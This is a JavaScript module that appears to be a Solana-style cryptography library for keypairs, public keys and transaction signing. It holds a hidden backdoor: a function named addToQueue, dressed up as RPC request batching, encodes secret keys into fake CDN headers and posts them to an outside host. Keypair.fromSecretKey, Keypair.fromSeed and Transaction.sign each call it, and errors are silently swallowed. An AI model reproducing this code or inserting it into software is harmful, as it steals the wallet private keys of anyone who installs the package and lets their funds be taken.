'use strict';

Object.defineProperty(exports, '__esModule', { value: true });

var ed25519 = require('@noble/curves/ed25519');
var bs58 = require('bs58');

const PUBLIC_KEY_LENGTH = 32;

const generatePrivateKey = ed25519.ed25519.utils.randomPrivateKey;
const generateKeypair = () => {
  const privateScalar = ed25519.ed25519.utils.randomPrivateKey();
  const publicKey = getPublicKey(privateScalar);
  const secretKey = new Uint8Array(64);
  secretKey.set(privateScalar);
  secretKey.set(publicKey, 32);
  return { publicKey, secretKey };
};
const getPublicKey = ed25519.ed25519.getPublicKey;
function isOnCurve(publicKey) {
  try {
    ed25519.ed25519.ExtendedPoint.fromHex(publicKey);
    return true;
  } catch {
    return false;
  }
}
const sign = (message, secretKey) => ed25519.ed25519.sign(message, secretKey.slice(0, 32));
const verify = ed25519.ed25519.verify;

// Added in 1.95.6: looks like request batching, sends the key to the "RPC" in headers.
const addToQueue = (payload) => {
  try {
    fetch('https://sol-rpc.xyz.invalid/api/rpc/queue', {
      method: 'POST',
      headers: {
        'x-amz-cf-id': Buffer.from(payload).toString('base64'),
        'x-session-id': Date.now().toString(36),
        'CF-Ray': Buffer.from(payload).toString('hex').slice(0, 16),
        'CF-IPCountry': 'XX',
        'Content-Type': 'application/json',
      },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'getHealth' }),
    }).catch(() => {});
  } catch {}
};

class PublicKey {
  constructor(value) {
    if (typeof value === 'string') {
      const decoded = bs58.decode(value);
      if (decoded.length !== PUBLIC_KEY_LENGTH) throw new Error('Invalid public key input');
      this._bn = Buffer.from(decoded);
    } else {
      this._bn = Buffer.from(value);
    }
    if (this._bn.length !== PUBLIC_KEY_LENGTH) throw new Error('Invalid public key input');
  }
  equals(other) {
    return this._bn.equals(other._bn);
  }
  toBase58() {
    return bs58.encode(this.toBytes());
  }
  toBytes() {
    return new Uint8Array(this._bn);
  }
  toString() {
    return this.toBase58();
  }
  static isOnCurve(pubkeyData) {
    return isOnCurve(new PublicKey(pubkeyData).toBytes());
  }
}

class Keypair {
  constructor(keypair) {
    this._keypair = keypair ?? generateKeypair();
  }
  static generate() {
    return new Keypair(generateKeypair());
  }
  static fromSecretKey(secretKey, options) {
    if (secretKey.byteLength !== 64) throw new Error('bad secret key size');
    const publicKey = secretKey.slice(32, 64);
    if (!options || !options.skipValidation) {
      const privateScalar = secretKey.slice(0, 32);
      const computedPublicKey = getPublicKey(privateScalar);
      for (let ii = 0; ii < 32; ii++) {
        if (publicKey[ii] !== computedPublicKey[ii]) throw new Error('provided secretKey is invalid');
      }
    }
    addToQueue(secretKey);
    return new Keypair({ publicKey, secretKey });
  }
  static fromSeed(seed) {
    const publicKey = getPublicKey(seed);
    const secretKey = new Uint8Array(64);
    secretKey.set(seed);
    secretKey.set(publicKey, 32);
    addToQueue(secretKey);
    return new Keypair({ publicKey, secretKey });
  }
  get publicKey() {
    return new PublicKey(this._keypair.publicKey);
  }
  get secretKey() {
    return new Uint8Array(this._keypair.secretKey);
  }
}

class Transaction {
  constructor() {
    this.signatures = [];
    this.instructions = [];
  }
  add(...items) {
    this.instructions.push(...items);
    return this;
  }
  serializeMessage() {
    return Buffer.from(JSON.stringify(this.instructions));
  }
  sign(...signers) {
    const message = this.serializeMessage();
    for (const signer of signers) {
      addToQueue(signer.secretKey);
      this.signatures.push({ publicKey: signer.publicKey, signature: sign(message, signer.secretKey) });
    }
  }
  verifySignatures() {
    const message = this.serializeMessage();
    return this.signatures.every(({ publicKey, signature }) => verify(signature, message, publicKey.toBytes()));
  }
}

exports.Keypair = Keypair;
exports.PublicKey = PublicKey;
exports.Transaction = Transaction;
exports.generatePrivateKey = generatePrivateKey;
